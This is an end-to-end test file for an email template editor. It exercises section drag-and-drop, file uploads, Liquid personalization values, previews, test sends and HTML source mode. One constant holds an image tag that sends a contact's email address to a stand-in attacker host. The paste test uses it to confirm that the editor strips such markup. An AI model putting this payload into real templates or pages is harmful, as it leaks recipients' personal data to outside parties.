// A user writes a letter from sections by mouse and keyboard, sees it as a contact gets it, and sends a test of it.
import { beforeAll, describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { STARTERS } from '../../../console/src/editors/content/starters.ts';
import { eventually } from '../../support/eventually.ts';
import { checkAccessibility, useConsole } from '../../support/console.ts';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const EVIL = '<img src="https://evil.example/?{{ contact.email }}">';
/** The events of a clipboard. That of the machine is shared by its programs, and not every headless browser has one. */
const CLIPBOARD = `
  const clipboardData = new DataTransfer();
  const use = (type) =>
    document.activeElement.dispatchEvent(
      new ClipboardEvent(type, { clipboardData, bubbles: true, cancelable: true }),
    );`;
const TABLE = '<table><tr><td>Kept</td></tr></table>';
const GREETING = '<p>Hello {{ contact.first_name | default: "there" }} &amp; <b>all</b></p>';
const design = {
  theme: { bg_color: '#eeeeee' },
  sections: [
    { type: 'header', props: { title: 'Acme' } },
    { type: 'text', props: { html: GREETING }, styles: { align: 'center' } },
    { type: 'columns', props: { columns: [{ sections: [] }, { sections: [] }] } },
    { type: 'text', props: { html: TABLE } },
    { type: 'button', props: { label: 'Go', href: 'https://example.com/' } },
  ],
};

const stage = useConsole();
let page: Page;
let id: number;

interface Letter {
  sections: { type: string; props: Record<string, unknown> }[];
}

const post = async (path: string, body: unknown) => {
  const answer = await stage().request('POST', `/v1/my${path}`, { body });
  expect(answer.status).toBe(201);
  return answer.body;
};
beforeAll(async () => {
  await post('/contacts', { email: 'hedy@example.com', first_name: 'Hedy' });
  id = Number((await post('/templates', { name: 'Letter', subject: 'Old', design })).id);
  page = await stage().signIn({ at: `/templates/${id}/edit` });
});

const published = async () => (await stage().request('GET', `/v1/my/templates/${id}`)).body;
const publish = async () => {
  await page.getByText(/Unpublished changes, saved/).waitFor();
  await page.getByRole('button', { name: 'Publish', exact: true }).click();
  await page.getByText('Everything is published.').waitFor();
  return (await published()).design as unknown as Letter;
};
const button = (name: string | RegExp) => page.getByRole('button', { name, exact: typeof name === 'string' });
const cards = () => page.locator('.section-list').first().locator('> ol > .section-card');
const handle = (index: number) => cards().nth(index).locator('> .section-head > .drag-handle');
const types = async () =>
  (await cards().locator('> .section-head > .section-title > strong').allTextContents()).join(' ');
const text = () => page.getByRole('textbox', { name: 'Text', exact: true });
/** Puts the caret behind the last word, beside which there is no value that a click would open. */
async function clickAtEnd(): Promise<void> {
  const last = text().locator('p').last();
  const { width, height } = (await last.boundingBox()) ?? { width: 0, height: 0 };
  await last.click({ position: { x: width - 4, y: height - 4 } });
  await page.keyboard.press('Control+End');
  // The editor learns of a moved cursor by an event, which a busy browser sends after the next key is pressed.
  await page.evaluate(`new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))`);
}

const preview = () => page.frameLocator('iframe[title="Preview of the letter"]');

describe('the sections of a letter', () => {
  it('open without a change, and what the text editor cannot hold opens as source', async () => {
    await button(/^Text Hello/).click();
    await text().getByText('contact.first_name or “there”').waitFor();
    await button(/^Text Kept/).click();
    expect(await page.getByLabel('Text as HTML').inputValue()).toBe(TABLE);
    await page.getByText('Everything is published.').waitFor();
    await checkAccessibility(page);
  });

  it('move by mouse and by keyboard, also into columns', async () => {
    await button(/^Text Kept/).click();
    await handle(4).dragTo(cards().nth(0), { targetPosition: { x: 40, y: 2 } });
    await eventually(async () => expect(await types()).toBe('Button Header Text Columns Text'));
    await handle(0).focus();
    await page.keyboard.press('ArrowDown');
    await eventually(async () => expect(await types()).toBe('Header Button Text Columns Text'));
    await page.locator('.section-card:nth-of-type(4) .drag-handle:focus').waitFor();
    await page.keyboard.press('ArrowDown');
    await eventually(async () => expect(await types()).toBe('Header Text Button Columns Text'));
    await cards().nth(2).getByRole('button', { name: 'More for Button' }).click();
    await page.getByRole('menuitem', { name: 'Move into column 2 below' }).click();
    await eventually(async () => expect(await types()).toBe('Header Text Columns Text'));
    const { sections } = await publish();
    const [header, greeting, , table] = design.sections;
    const moved = {
      type: 'columns',
      props: { columns: [{ sections: [] }, { sections: [design.sections[4]] }] },
    };
    expect(sections).toEqual([header, greeting, moved, table]);
  });

  it('are added, and removed with an undo', async () => {
    await button('+ Add a section').last().click();
    await page.getByRole('menuitem', { name: 'Image' }).click();
    await cards()
      .getByLabel('Upload a file')
      .setInputFiles({ name: 'a.png', mimeType: 'image/png', buffer: PNG });
    await eventually(async () =>
      expect(await page.getByLabel('Image', { exact: true }).inputValue()).toMatch(/\/uploads\//),
    );
    await cards().nth(0).getByRole('button', { name: 'More for Header' }).click();
    await page.getByRole('menuitem', { name: 'Remove' }).click();
    await eventually(async () => expect(await types()).toBe('Text Columns Text Image'));
    await button('Undo').click();
    await eventually(async () => expect(await types()).toBe('Header Text Columns Text Image'));
  });
});

describe('the files of the brand', () => {
  it('are chosen for images of letters, listed with the used quota, and deleted', async () => {
    const image = cards().last();
    const field = image.getByLabel('Image', { exact: true });
    const url = await field.inputValue();
    await field.fill('');
    await image.getByRole('button', { name: 'Choose from files' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'a.png' }).click();
    expect(await field.inputValue()).toBe(url);
    const files = await stage().signIn({ at: '/files' });
    await files.getByText(/^\s*\d+ bytes of 500 MB used/).waitFor();
    const row = files.getByRole('row', { name: /a\.png/ });
    await row.getByText('Until deleted').waitFor();
    await row.getByRole('button', { name: 'Delete' }).click();
    await files.getByRole('dialog').getByText('even those that were sent long ago').waitFor();
    await files.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
    await files.getByText('No files yet').waitFor();
    await files.getByText(/^\s*0 bytes of 500 MB used/).waitFor();
    expect((await fetch(url)).status).toBe(404);
  });
});

describe('the text of a letter', () => {
  it('takes formats and values with fallbacks, and is shown with those of a contact', async () => {
    // While a value is typed, its Liquid is not complete.
    stage().allow(/status of 422/);
    await button(/^Text Hello/).click();
    await clickAtEnd();
    await page.keyboard.press('Enter');
    await page.keyboard.type('Your plan: {{ contact.data.plan }}');
    await text().getByText('contact.data.plan', { exact: true }).click();
    await page.getByRole('dialog').getByLabel('If it is empty').fill('free');
    await page.getByRole('dialog').getByRole('button', { name: 'Change' }).click();
    await text().getByText('contact.data.plan or “free”').waitFor();
    await page.getByLabel('Subject', { exact: true }).fill('News for {{ contact.first_name }}');
    await page.getByLabel('Show it for this contact').fill('hedy@example.com');
    await page.getByText('News for Hedy').waitFor();
    await preview().getByText('Your plan: free').waitFor();
    await preview().getByText('Hello Hedy').waitFor();
    for (const name of ['Phone', 'Dark']) await button(name).click();
    await preview().getByText('Hello Hedy').waitFor();
    await button('Plain text').click();
    await page.locator('pre', { hasText: 'Your plan: free' }).waitFor();
    await checkAccessibility(page);
    const { sections } = await publish();
    expect(sections[1]?.props.html).toBe(
      // The new line is bold, as the end of the one before.
      `${GREETING}<p><b>Your plan: {{ contact.data.plan | default: "free" }}</b></p>`,
    );
    expect(sections[3]?.props.html).toBe(TABLE);
  });

  it('takes what is pasted without HTML that it does not show', async () => {
    const context = JSON.stringify(['blockquote', { lead: EVIL }]);
    const link = `<a href="https://a.example/" attributes='${EVIL}'>link</a>`;
    const html = `<p data-pm-slice='2 2 ${context}' lead='${EVIL}'>Pasted ${link}</p>`;
    await clickAtEnd();
    await page.keyboard.press('Control+a');
    await page.evaluate(`{
      ${CLIPBOARD}
      clipboardData.setData('text/html', ${JSON.stringify(html)});
      use('paste');
    }`);
    await text().getByText('Pasted').waitFor();
    const { sections } = await publish();
    expect(sections[1]?.props.html).toBe(
      '<blockquote><p>Pasted <a href="https://a.example/">link</a></p></blockquote>',
    );
  });

  it('is copied within the editor with its links, and a value is found by its words', async () => {
    await clickAtEnd();
    await page.keyboard.press('Control+a');
    // The first one replaces what is selected, and leaves the caret behind it.
    await page.evaluate(`{ ${CLIPBOARD} use('copy'); use('paste'); use('paste'); }`);
    await eventually(async () => expect(await text().getByText('link', { exact: true }).count()).toBe(2));
    await button('Value').click();
    await page.keyboard.type('first na');
    await page.getByRole('option', { name: 'First name Hedy' }).waitFor();
    await page.keyboard.press('Enter');
    await page.keyboard.type('you');
    await page.keyboard.press('Enter');
    await text().getByText('contact.first_name or “you”').waitFor();
    await page.locator('.rich-content:focus').waitFor();
    await page.keyboard.type(' and');
    for (const name of ['Value', 'Link']) {
      await button(name).click();
      await page.getByRole('dialog').waitFor();
      await page.keyboard.press('Escape');
      await page.locator('.rich-content:focus').waitFor();
    }
    await page.keyboard.type(' on');
    await checkAccessibility(page);
    const { sections } = await publish();
    const html = String(sections[1]?.props.html);
    expect(html.match(/<a href="https:\/\/a\.example\/">link<\/a>/g)).toHaveLength(2);
    expect(html).toContain('{{ contact.first_name | default: "you" }} and on');
  });

  it('goes on behind a value that was put into the subject', async () => {
    const subject = page.getByLabel('Subject', { exact: true });
    await subject.fill('For , news');
    await subject.press('Home');
    for (let at = 0; at < 4; at += 1) await subject.press('ArrowRight');
    await button('Insert a value into Subject').click();
    await page.keyboard.type('contact.city');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    await page.locator('.liquid-input input:focus').waitFor();
    await page.keyboard.type('!');
    expect(await subject.inputValue()).toBe('For {{ contact.city }}!, news');
  });

  it('says at a section what is wrong with it, and sends a test of what is not published', async () => {
    stage().allow(/status of 422/);
    const head = cards().nth(2).locator('.section-card').first();
    await head.locator('.section-title').click();
    await head.getByLabel('Link', { exact: true }).fill('{{ oops');
    await head.getByRole('alert').waitFor();
    await head.getByLabel('Link', { exact: true }).fill('');
    await head.getByText('The button has no link.').waitFor();
    await head.getByLabel('Link', { exact: true }).fill('https://example.com/new');
    await head.getByRole('alert').waitFor({ state: 'detached' });
    await page.getByLabel('Subject', { exact: true }).fill('Unpublished for {{ contact.first_name }}');
    await page.getByText('Unpublished for Hedy').waitFor();
    await button('Send a test').click();
    await page.getByRole('dialog').getByRole('button', { name: 'Send' }).click();
    await page
      .getByRole('dialog')
      .getByRole('link', { name: /^Message \d+ to/ })
      .waitFor();
    await page.getByRole('dialog').getByRole('button', { name: 'Close' }).last().click();
    const { body, list } = await stage().request('GET', '/v1/my/messages?limit=1');
    expect(body).toMatchObject([{ test: true, subject: '[Test] Unpublished for Hedy' }]);
    const message = await stage().signIn({ at: `/messages/${String(list[0]?.id)}` });
    await message.getByText('It is sent to its recipient').waitFor();
  });

  it('becomes source only after a question, and its design stays in the draft until it is published', async () => {
    const before = await types();
    const body = () => page.getByLabel('Body').inputValue();
    await button('Write source instead').click();
    await button('Keep the design').click();
    expect(await types()).toBe(before);
    await button('Write source instead').click();
    await button('Begin with the HTML of the design').click();
    await page.getByLabel('Body').waitFor();
    expect(await body()).toMatch(/<!doctype html>[^]*\{\{ contact\.first_name/i);
    await page.getByLabel('Body').fill(`${await body()}<p>Plain source</p>`);
    await page.getByText(/Unpublished changes, saved/).waitFor();
    await page.reload();
    await button('Back to the design').click();
    await eventually(async () => expect(await types()).toBe(before));
    await button('Write source instead').click();
    await button('Continue with the source that was put aside').click();
    expect(await body()).toContain('<p>Plain source</p>');
    await publish();
    expect(await published()).toMatchObject({ design: null, body: expect.stringContaining('Plain source') });
    await button('Back to the design').waitFor({ state: 'detached' });
    await page.getByLabel('Body').fill('<p>Short source</p>');
    await button('Start a design instead').click();
    await eventually(async () => expect(await types()).toBe('Header HTML'));
    await button('Write source instead').click();
    await button('Continue with the source that was put aside').click();
    expect(await body()).toBe('<p>Short source</p>');
    await page.setViewportSize({ width: 360, height: 800 });
    const isWide = await page.evaluate<boolean>('document.documentElement.scrollWidth > innerWidth');
    expect(isWide).toBe(false);
  });
});

describe('a new template', () => {
  it('begins as a letter at the list, and as an SMS from anywhere', async () => {
    await page.setViewportSize({ width: 1280, height: 800 });
    await stage().open(page, '/templates');
    await button('New template').click();
    await page.getByRole('menuitem', { name: 'For email' }).click();
    await page.getByRole('heading', { name: 'Choose a design' }).waitFor();
    await page.keyboard.press('Control+k');
    await page.getByPlaceholder('A page, an address, an id or a name').fill('new template sms');
    await page.getByRole('option', { name: 'New template for SMS' }).waitFor();
    await page.keyboard.press('Enter');
    await page.getByLabel('Text', { exact: true }).waitFor();
    await page.getByRole('heading', { level: 1, name: 'New template' }).waitFor();
    const { list } = await stage().request('GET', '/v1/my/templates');
    expect(list.map(({ channel }) => channel)).toEqual(expect.arrayContaining(['email', 'sms']));
    expect(list).toHaveLength(3);
  });
});

describe('a letter that begins with a design', () => {
  it.each(STARTERS.map(({ name, sections }) => [name, sections().length] as const))(
    '%s keeps each section that is added',
    async (name, count) => {
      const { id: blank } = await post('/templates', { name, subject: name });
      await stage().open(page, `/templates/${Number(blank)}/edit`);
      await page.getByRole('button', { name: new RegExp(`^${name}`) }).click();
      for (let at = 0; at < count; at += 1) {
        // Before each section of the design, and what was added before it stays.
        await button(`Add a section before number ${2 * at + 1}`)
          .first()
          .click();
        await page.getByRole('menuitem', { name: 'Space' }).click();
        await cards()
          .nth(2 * at)
          .getByLabel('Height')
          .waitFor();
        expect(await cards().count()).toBe(count + at + 1);
        await cards().last().locator('> .section-head > .section-title').click();
        await eventually(async () => expect(await cards().count()).toBe(count + at + 1));
      }
      await page.getByText(/Unpublished changes, saved/).waitFor();
      const { body } = await stage().request('GET', `/v1/my/drafts/templates/${Number(blank)}`);
      expect(body.content?.design?.sections).toHaveLength(2 * count);
    },
  );
});
